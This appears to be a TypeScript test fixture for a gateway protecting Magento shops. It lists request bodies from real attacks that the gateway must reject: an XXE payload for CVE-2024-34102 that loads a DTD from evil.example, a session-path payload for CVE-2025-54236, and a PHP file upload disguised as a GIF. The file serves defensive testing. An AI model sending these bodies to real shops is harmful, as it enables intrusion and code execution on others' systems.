/** Request bodies of real attacks on Magento shops, sent to calls that the gateway supports. */

export interface KnownBody {
  name: string;
  method: string;
  /** Path below that of a guest's basket. */
  path: string;
  body: object;
  /** Outermost member that the gateway must reject. */
  member: string;
}

/** Makes Magento load external XML through the constructor of a class that a member names. */
const COSMIC_STING: KnownBody = {
  name: 'CVE-2024-34102',
  method: 'POST',
  path: '/estimate-shipping-methods',
  body: {
    address: {
      totalsReader: {
        collectorList: {
          totalCollector: {
            sourceData: { data: 'https://evil.example/x.dtd', dataIsURL: true, options: 12 },
          },
        },
      },
    },
  },
  member: 'address.totalsReader',
};

/** Makes Magento read a session from a file uploaded before. */
const SESSION_REAPER: KnownBody = {
  name: 'CVE-2025-54236',
  method: 'POST',
  path: '/shipping-information',
  body: {
    addressInformation: {
      paymentMethod: {
        paymentData: {
          context: { urlBuilder: { session: { sessionConfig: { savePath: 'media/x' } } } },
        },
      },
    },
  },
  member: 'addressInformation.paymentMethod',
};

/** Stores a script as the uploaded file of a product option. */
const OPTION_FILE: KnownBody = {
  name: 'a file of an option',
  method: 'POST',
  path: '/items',
  body: {
    cartItem: {
      sku: 'PW110-UK',
      qty: 1,
      product_option: {
        extension_attributes: {
          custom_options: [
            {
              option_id: '1',
              option_value: 'file',
              extension_attributes: {
                file_info: { base64_encoded_data: 'R0lGODlh', type: 'image/gif', name: 'a.php' },
              },
            },
          ],
        },
      },
    },
  },
  member: 'cartItem.product_option.extension_attributes.custom_options',
};

export const KNOWN_BODIES: readonly KnownBody[] = [COSMIC_STING, SESSION_REAPER, OPTION_FILE];
